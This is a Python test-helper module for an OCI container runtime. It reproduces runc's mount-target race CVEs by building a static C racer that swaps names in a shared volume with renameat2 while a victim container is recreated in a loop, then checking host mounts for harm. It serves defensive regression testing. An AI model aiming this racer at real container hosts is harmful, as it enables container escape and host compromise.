"""What the mount-target attacks share: a racing container, a victim created in a loop.

The attacks of runc's CVE-2019-19921, CVE-2021-30465, CVE-2023-27561 and
CVE-2024-45310 need two containers that share a volume: the attacker (A)
swaps names in the volume with renameat2(RENAME_EXCHANGE) in a tight loop
(``swap.c``, compiled static here and bound into A), while the victim (B),
whose mounts[] point into the volume, is created again and again.  After each
create a check looks at what the host can see (its mount table, the host
directory a symlink points at, the victim's /proc/PID/mountinfo) and names
the harm, if any.

The same attack runs against runc and crun when ``OCIRT_SECURITY_PEERS=1``
(tests ``test_peer_*``): that is how docs/security.md's columns for them were
filled; they record, they do not judge.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from conftest import run_captured

REPO = Path(__file__).resolve().parents[2]
NOHYBRID = REPO / "tools" / "nohybrid.sh"
ID_PREFIX = "ocirt-test-mt"  # the default cgroups are named by the id (tests' rule)
PEERS = ("runc", "crun")

SWAP_C = r"""
/* swap SECONDS DIR A B [A B ...]: exchange each pair of names in DIR with
   renameat2(RENAME_EXCHANGE), in a tight loop, for SECONDS seconds. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>
#define RENAME_EXCHANGE_FLAG 2
int main(int argc, char **argv)
{
    if (argc < 5 || argc % 2 == 0)
        return 2;
    int dir = open(argv[2], O_PATH | O_DIRECTORY);
    if (dir < 0)
        return 1;
    time_t end = time(NULL) + atoi(argv[1]);
    while (time(NULL) < end)
        for (int k = 0; k < 1000; k++)
            for (int i = 3; i + 1 < argc; i += 2)
                syscall(SYS_renameat2, dir, argv[i], dir, argv[i + 1], RENAME_EXCHANGE_FLAG);
    return 0;
}
"""


def peers_enabled() -> bool:
    return os.environ.get("OCIRT_SECURITY_PEERS") == "1"


def runtime_argv(name: str, ocirt_bin: str) -> list[str]:
    """How to call runtime NAME (crun 1.8.1 refuses this hybrid host outside nohybrid)."""
    if name == "ocirt":
        return [ocirt_bin]
    binary = shutil.which(name)
    if binary is None:
        pytest.skip(f"{name} is not installed")
    if name == "crun":
        if not NOHYBRID.exists():
            pytest.skip(f"{NOHYBRID} is missing")
        return [str(NOHYBRID), binary]
    return [binary]


def build_swap(where: Path) -> Path:
    """The racer, built in WHERE: static, so it runs in the busybox rootfs."""
    if shutil.which("gcc") is None:
        pytest.skip("gcc is needed to build the racer")
    (where / "swap.c").write_text(SWAP_C)
    built = subprocess.run(
        ["gcc", "-static", "-O2", "-o", str(where / "swap"), str(where / "swap.c")],
        capture_output=True,
        text=True,
        check=False,
    )
    if built.returncode != 0:
        pytest.skip(f"cannot build a static program: {built.stderr.strip()[-300:]}")
    return where / "swap"


@dataclass
class Runtime:
    argv: list[str]
    root: Path
    name: str = "ocirt"
    ids: list[str] = field(default_factory=list)

    def call(self, *args: str, timeout: float = 60) -> subprocess.CompletedProcess[str]:
        return run_captured([*self.argv, "--root", str(self.root), *args], timeout)

    def create(self, bundle: Path, cid: str) -> tuple[int | None, str]:
        """(init pid or None, stderr) of `create`."""
        pid_file = bundle / f"{cid}.pid"
        self.ids.append(cid)
        proc = self.call("create", "--bundle", str(bundle), "--pid-file", str(pid_file), cid)
        if proc.returncode != 0:
            return None, proc.stderr.strip()
        return int(pid_file.read_text()), ""

    def delete(self, cid: str) -> str:
        """`delete --force CID`; its error, "" once CID is gone."""
        proc = self.call("delete", "--force", cid)
        if proc.returncode == 0 or "does not exist" in proc.stderr:
            self.ids.remove(cid)
            return ""
        return proc.stderr.strip()

    def delete_all(self) -> None:
        errors = {}
        for _round in range(3):  # a busy host: the racer may take a moment to die
            for cid in list(self.ids):
                errors[cid] = self.delete(cid)
            if not self.ids:
                return
            time.sleep(1)
        raise AssertionError(f"{self.name} could not delete {self.ids}: {errors}")


@contextmanager
def runtime(name: str, ocirt_bin: str, root: Path) -> Iterator[Runtime]:
    """A runtime whose containers are all deleted at the end, whatever happens."""
    rt = Runtime(runtime_argv(name, ocirt_bin), root, name)
    try:
        yield rt
    finally:
        rt.delete_all()


def write_config(bundle: Path, edit: Callable[[dict[str, Any]], None]) -> None:
    path = bundle / "config.json"
    config = json.loads(path.read_text())
    edit(config)
    path.write_text(json.dumps(config, indent="\t") + "\n")


def bind(source: Path | str, destination: str, *options: str) -> dict[str, Any]:
    return {
        "destination": destination,
        "type": "bind",
        "source": str(source),
        "options": ["rbind", *options],
    }


@contextmanager
def racer(
    rt: Runtime, bundle: Path, swap: Path, volume: Path, pairs: list[str], seconds: int
) -> Iterator[None]:
    """Container A: VOLUME at /vol, swapping PAIRS of names in it for SECONDS."""

    def edit(config: dict[str, Any]) -> None:
        config["process"]["args"] = ["/swap", str(seconds), "/vol", *pairs]
        config["mounts"] += [bind(volume, "/vol"), bind(swap, "/swap", "ro")]

    write_config(bundle, edit)
    cid = f"{ID_PREFIX}-racer"
    pid, error = rt.create(bundle, cid)
    assert pid is not None, f"{rt.name}: the racing container did not start: {error}"
    started = rt.call("start", cid)
    assert started.returncode == 0, started.stderr
    try:
        yield
    finally:
        rt.delete(cid)


@dataclass
class Outcome:
    attempts: int = 0
    created: int = 0
    refused: dict[str, int] = field(default_factory=dict)
    harm: str = ""

    def summary(self) -> str:
        refused = "; ".join(f"{n}x {e[-200:]}" for e, n in self.refused.items())
        return (
            f"{self.attempts} creates ({self.created} succeeded) — "
            f"{'HARM: ' + self.harm if self.harm else 'no harm seen'}"
            f"{' — refused: ' + refused if refused else ''}"
        )


def create_until_harm(
    rt: Runtime,
    bundle: Path,
    seconds: float,
    before_each: Callable[[int], None],
    harm_of: Callable[[int | None], str],
) -> Outcome:
    """Create (and delete) the victim in BUNDLE again and again for SECONDS, or
    until HARM_OF (given the init's pid, None when create failed) names harm.
    BEFORE_EACH(n) may rewrite the config for attempt N."""
    outcome = Outcome()
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline and not outcome.harm:
        before_each(outcome.attempts)
        cid = f"{ID_PREFIX}-victim{outcome.attempts}"
        outcome.attempts += 1
        pid, error = rt.create(bundle, cid)
        try:
            if pid is None:
                key = _sentence(error.splitlines()[-1] if error else "(no message)")
                outcome.refused[key] = outcome.refused.get(key, 0) + 1
            else:
                outcome.created += 1
            outcome.harm = harm_of(pid)
        finally:
            rt.delete(cid)
    return outcome


def _sentence(line: str) -> str:
    """LINE without its log prefix, and with the attempt's number made 'N'."""
    line = re.sub(r'^time="[^"]*" level=\w+ msg=', "", line)
    return re.sub(r"\d+", "N", line)


def mountinfo_of(pid: int | str) -> list[tuple[str, str, str, str]]:
    """(mount point, fstype, per-mount options, root in its filesystem) of PID's mounts."""
    rows = []
    for line in Path(f"/proc/{pid}/mountinfo").read_text().splitlines():
        fields = line.split()
        sep = fields.index("-")
        rows.append((fields[4], fields[sep + 1], fields[5], fields[3]))
    return rows


def host_mounts_under(path: Path) -> list[str]:
    """Mount points of the host's (our) mount namespace at or under PATH."""
    prefix = str(path).rstrip("/")
    return [
        point
        for point, _fstype, _opts, _root in mountinfo_of("self")
        if point == prefix or point.startswith(prefix + "/")
    ]


def entries_under(path: Path) -> list[str]:
    """Everything inside PATH, recursively (not following symlinks)."""
    return sorted(str(p.relative_to(path)) for p in path.rglob("*"))
